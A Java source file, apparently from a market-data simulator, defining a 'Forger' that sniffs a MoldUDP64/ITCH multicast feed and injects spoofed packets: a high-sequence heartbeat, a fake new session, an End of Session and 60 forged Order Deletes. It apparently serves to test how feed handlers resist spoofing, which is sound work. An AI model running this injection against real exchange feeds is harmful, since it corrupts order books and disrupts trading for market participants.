package io.wirebook.sim;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.NetworkInterface;
import java.net.StandardProtocolFamily;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.channels.DatagramChannel;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.LinkedHashMap;
import java.util.Locale;
import java.util.Map;
import java.util.Set;

import io.wirebook.itch.ItchMessages;
import io.wirebook.itch.ItchWriter;
import io.wirebook.mold.MoldPacketizer;
import io.wirebook.mold.MoldUDP64;
import io.wirebook.rx.Channel;
import io.wirebook.stats.HostClock;
import org.agrona.DirectBuffer;
import org.agrona.MutableDirectBuffer;
import org.agrona.concurrent.UnsafeBuffer;

/**
 * A hostile peer on the exchange's subnet, as issue #7 tried one: it joins a channel's group, reads the live feed
 * until it has the session, the next sequence number and a live order reference, then sends one datagram of each
 * forged kind to the group. Each kind, on a handler that trusts the first packet it sees, does the damage of the
 * issue's table:
 * <ul>
 *   <li>{@link Kind#HB_HIGH_SEQ}: a heartbeat of the live session at sequence 2^62, so that every real packet
 *       after it looks like a duplicate;</li>
 *   <li>{@link Kind#HB_NEW_SESSION}: a heartbeat of a session whose name sorts above the live one, at sequence 1,
 *       so that the handler drops its books for a new session;</li>
 *   <li>{@link Kind#EOS}: an End of Session of the live session at the next sequence number;</li>
 *   <li>{@link Kind#DELETES}: {@value #DELETE_COUNT} Order Deletes of live-looking references, at the next sequence
 *       number plus {@value #DELETE_SEQUENCE_AHEAD}.</li>
 * </ul>
 * Run it inside the exchange's namespace: it reads the feed there through multicast loop, as a host on the
 * exchange's switch would.
 */
public final class Forger
{
    public static final long HIGH_SEQUENCE = 1L << 62;
    public static final int DELETE_COUNT = 60;
    public static final long DELETE_SEQUENCE_AHEAD = 30_000;
    public static final long NEW_SESSION_SEQUENCE = 1;
    /** Every order message (A, F, E, C, X, D, U) carries its (original) order reference right after the header. */
    static final int ORDER_REFERENCE_OFFSET = ItchMessages.HEADER_LENGTH;
    private static final int ORDER_REFERENCE_LENGTH = Long.BYTES;
    private static final int MAX_PACKET_BYTES = PublisherConfig.MAX_UDP_PAYLOAD;
    private static final int TTL = PublisherConfig.DEFAULT_TTL;
    private static final byte HIGHEST_SESSION_BYTE = '~';

    /** The forged packets, by the names the command line uses. */
    public enum Kind
    {
        HB_HIGH_SEQ("hb-high-seq"),
        HB_NEW_SESSION("hb-new-session"),
        EOS("eos"),
        DELETES("deletes");

        private final String label;

        Kind(final String label)
        {
            this.label = label;
        }

        public String label()
        {
            return label;
        }

        /** "all", or labels separated by commas. */
        public static Set<Kind> parse(final String kinds)
        {
            if (kinds.strip().equals("all"))
            {
                return EnumSet.allOf(Kind.class);
            }
            final Set<Kind> set = EnumSet.noneOf(Kind.class);
            for (final String label : kinds.split(","))
            {
                set.add(of(label.strip()));
            }
            return set;
        }

        static Kind of(final String label)
        {
            for (final Kind kind : values())
            {
                if (kind.label.equals(label))
                {
                    return kind;
                }
            }
            throw new IllegalArgumentException("unknown forged packet kind '" + label +
                "'; use all or a comma list of hb-high-seq, hb-new-session, eos, deletes");
        }
    }

    /**
     * What a peer learns from the live feed.
     *
     * @param session            the live session's ten bytes.
     * @param nextSequenceNumber the sequence number of the next message the exchange will send.
     * @param stockLocate        the locate of the last order message seen (1 if none).
     * @param orderReference     the largest order reference seen (0 if none).
     */
    public record LiveFeed(byte[] session, long nextSequenceNumber, int stockLocate, long orderReference)
    {
        public LiveFeed
        {
            session = session.clone();
        }

        @Override
        public byte[] session()
        {
            return session.clone();
        }

        public String sessionText()
        {
            return new String(session, StandardCharsets.US_ASCII);
        }

        /** The same feed, moved on by a later packet; keeps the order seen so far if that packet has none. */
        LiveFeed laterThan(final LiveFeed earlier)
        {
            return orderReference >= earlier.orderReference || !Arrays.equals(session, earlier.session) ? this :
                new LiveFeed(session, nextSequenceNumber, earlier.stockLocate, earlier.orderReference);
        }
    }

    private Forger()
    {
    }

    /**
     * Reads one MoldUDP64 packet as a peer would; null if it is too short to be one. Messages that run past the
     * packet's end are ignored.
     */
    public static LiveFeed learn(final DirectBuffer packet, final int offset, final int length)
    {
        if (length < MoldUDP64.HEADER_LENGTH)
        {
            return null;
        }
        final byte[] session = new byte[MoldUDP64.SESSION_LENGTH];
        packet.getBytes(offset + MoldUDP64.SESSION_OFFSET, session);
        final long sequence = packet.getLong(offset + MoldUDP64.SEQUENCE_NUMBER_OFFSET, ByteOrder.BIG_ENDIAN);
        final int count = packet.getShort(offset + MoldUDP64.MESSAGE_COUNT_OFFSET, ByteOrder.BIG_ENDIAN) & 0xFFFF;
        if (count == MoldUDP64.END_OF_SESSION_COUNT)
        {
            return new LiveFeed(session, sequence, 1, 0);
        }
        int stockLocate = 1;
        long reference = 0;
        int at = offset + MoldUDP64.HEADER_LENGTH;
        final int end = offset + length;
        for (int i = 0; i < count && at + MoldUDP64.MESSAGE_LENGTH_PREFIX <= end; i++)
        {
            final int messageLength = packet.getShort(at, ByteOrder.BIG_ENDIAN) & 0xFFFF;
            final int message = at + MoldUDP64.MESSAGE_LENGTH_PREFIX;
            if (message + messageLength > end)
            {
                break;
            }
            if (isOrderMessage(packet.getByte(message + ItchMessages.MESSAGE_TYPE_OFFSET)) &&
                messageLength >= ORDER_REFERENCE_OFFSET + ORDER_REFERENCE_LENGTH)
            {
                stockLocate = packet.getShort(message + ItchMessages.STOCK_LOCATE_OFFSET, ByteOrder.BIG_ENDIAN) &
                    0xFFFF;
                reference = Math.max(reference,
                    packet.getLong(message + ORDER_REFERENCE_OFFSET, ByteOrder.BIG_ENDIAN));
            }
            at = message + messageLength;
        }
        return new LiveFeed(session, sequence + count, stockLocate, reference);
    }

    /** Builds the forged packet of {@code kind} at offset 0 of {@code buffer}; returns its length. */
    public static int build(final Kind kind, final LiveFeed live, final MutableDirectBuffer buffer)
    {
        return switch (kind)
        {
            case HB_HIGH_SEQ -> MoldUDP64.heartbeat(buffer, 0, live.session(), HIGH_SEQUENCE);
            case HB_NEW_SESSION -> MoldUDP64.heartbeat(buffer, 0, sessionAbove(live.session()), NEW_SESSION_SEQUENCE);
            case EOS -> MoldUDP64.endOfSession(buffer, 0, live.session(), live.nextSequenceNumber());
            case DELETES -> deletes(live, buffer);
        };
    }

    /** A session name that sorts above {@code session}: its last byte that can grow, grown by one. */
    public static byte[] sessionAbove(final byte[] session)
    {
        final byte[] above = session.clone();
        for (int i = above.length - 1; i >= 0; i--)
        {
            if (above[i] < HIGHEST_SESSION_BYTE)
            {
                above[i]++;
                return above;
            }
        }
        throw new IllegalArgumentException("no session sorts above '" +
            new String(session, StandardCharsets.US_ASCII) + "'");
    }

    /**
     * Joins {@code channel} on the interface that holds {@code from}, learns the live feed (waiting at most
     * {@code waitMs} for a packet with an order in it, or for any packet at all), then sends each kind once from
     * {@code from}:{@code fromPort}. Returns what it learned and how many it sent of each kind.
     *
     * @throws IllegalStateException when no packet of the feed came within {@code waitMs}.
     */
    public static Result forge(
        final Channel channel, final int from, final int fromPort, final Set<Kind> kinds, final long waitMs)
    {
        try
        {
            final InetAddress source = InetAddress.getByAddress(toBytes(from));
            final NetworkInterface nif = DatagramPacketSink.interfaceWith(source);
            final LiveFeed live = listen(channel, nif, waitMs);
            final Map<Kind, Integer> sent = new LinkedHashMap<>();
            try (DatagramChannel socket = DatagramChannel.open(StandardProtocolFamily.INET))
            {
                socket.setOption(StandardSocketOptions.IP_MULTICAST_IF, nif);
                socket.setOption(StandardSocketOptions.IP_MULTICAST_TTL, TTL);
                socket.setOption(StandardSocketOptions.IP_MULTICAST_LOOP, source.isLoopbackAddress());
                socket.bind(new InetSocketAddress(source, fromPort));
                final ByteBuffer bytes = ByteBuffer.allocateDirect(MAX_PACKET_BYTES);
                final UnsafeBuffer buffer = new UnsafeBuffer(bytes);
                final InetSocketAddress group = new InetSocketAddress(channel.groupAddress(), channel.port());
                for (final Kind kind : kinds)
                {
                    bytes.limit(build(kind, live, buffer)).position(0);
                    socket.send(bytes, group);
                    sent.merge(kind, 1, Integer::sum);
                }
            }
            return new Result(live, sent);
        }
        catch (final IOException ex)
        {
            throw new UncheckedIOException("forging on " + channel + " from " + Channel.toDotted(from) + ":" +
                fromPort + " failed: " + ex.getMessage(), ex);
        }
    }

    /** What {@link #forge} learned and sent. */
    public record Result(LiveFeed live, Map<Kind, Integer> sent)
    {
        public Result
        {
            sent = Map.copyOf(sent);
        }

        public int total()
        {
            return sent.values().stream().mapToInt(Integer::intValue).sum();
        }

        /** The lines of the --out file: sent=N, sent.KIND=N for every kind, and what was learned. */
        public String toProperties()
        {
            final StringBuilder out = new StringBuilder();
            out.append("sent=").append(total()).append('\n');
            for (final Kind kind : Kind.values())
            {
                out.append("sent.").append(kind.label()).append('=').append(sent.getOrDefault(kind, 0)).append('\n');
            }
            out.append("session=").append(live.sessionText().strip()).append('\n');
            out.append("next_sequence=").append(live.nextSequenceNumber()).append('\n');
            out.append("order_reference=").append(live.orderReference()).append('\n');
            return out.toString();
        }
    }

    private static LiveFeed listen(final Channel channel, final NetworkInterface nif, final long waitMs)
        throws IOException
    {
        try (DatagramChannel socket = DatagramChannel.open(StandardProtocolFamily.INET);
            Selector selector = Selector.open())
        {
            socket.setOption(StandardSocketOptions.SO_REUSEADDR, true);
            socket.bind(new InetSocketAddress(channel.groupAddress(), channel.port()));
            socket.join(channel.groupAddress(), nif);
            socket.configureBlocking(false);
            socket.register(selector, SelectionKey.OP_READ);
            final ByteBuffer bytes = ByteBuffer.allocateDirect(MAX_PACKET_BYTES);
            final UnsafeBuffer buffer = new UnsafeBuffer(bytes);
            final long deadline = System.nanoTime() + waitMs * 1_000_000L;
            LiveFeed live = null;
            long left;
            while ((left = (deadline - System.nanoTime()) / 1_000_000L) > 0)
            {
                if (selector.select(left) == 0)
                {
                    continue;
                }
                selector.selectedKeys().clear();
                bytes.clear();
                while (null != socket.receive(bytes))
                {
                    final LiveFeed seen = learn(buffer, 0, bytes.position());
                    if (null != seen)
                    {
                        live = null == live ? seen : seen.laterThan(live);
                        if (live.orderReference() > 0)
                        {
                            return live;
                        }
                    }
                    bytes.clear();
                }
            }
            if (null == live)
            {
                throw new IllegalStateException(String.format(Locale.ROOT,
                    "no packet on %s within %d ms; is the publisher running, and is this in the exchange's " +
                    "namespace (ip netns exec wb-exch)?", channel, waitMs));
            }
            return live;
        }
    }

    private static int deletes(final LiveFeed live, final MutableDirectBuffer buffer)
    {
        final MoldPacketizer packetizer = new MoldPacketizer(live.session(), buffer, MAX_PACKET_BYTES);
        packetizer.reset(live.nextSequenceNumber() + DELETE_SEQUENCE_AHEAD);
        final long timestamp = HostClock.itchTimestamp(HostClock.nanos());
        // The newest orders are the likeliest still to rest in the book.
        final long newest = Math.max(live.orderReference(), DELETE_COUNT);
        for (int i = 0; i < DELETE_COUNT; i++)
        {
            final int at = packetizer.beginMessage();
            packetizer.commitMessage(ItchWriter.orderDelete(buffer, at, live.stockLocate(), 0, timestamp,
                newest - i));
        }
        return packetizer.length();
    }

    private static boolean isOrderMessage(final byte type)
    {
        return type == ItchMessages.ADD_ORDER || type == ItchMessages.ADD_ORDER_MPID ||
            type == ItchMessages.ORDER_EXECUTED || type == ItchMessages.ORDER_EXECUTED_WITH_PRICE ||
            type == ItchMessages.ORDER_CANCEL || type == ItchMessages.ORDER_DELETE ||
            type == ItchMessages.ORDER_REPLACE;
    }

    private static byte[] toBytes(final int address)
    {
        return new byte[] {(byte)(address >>> 24), (byte)(address >>> 16), (byte)(address >>> 8), (byte)address};
    }
}
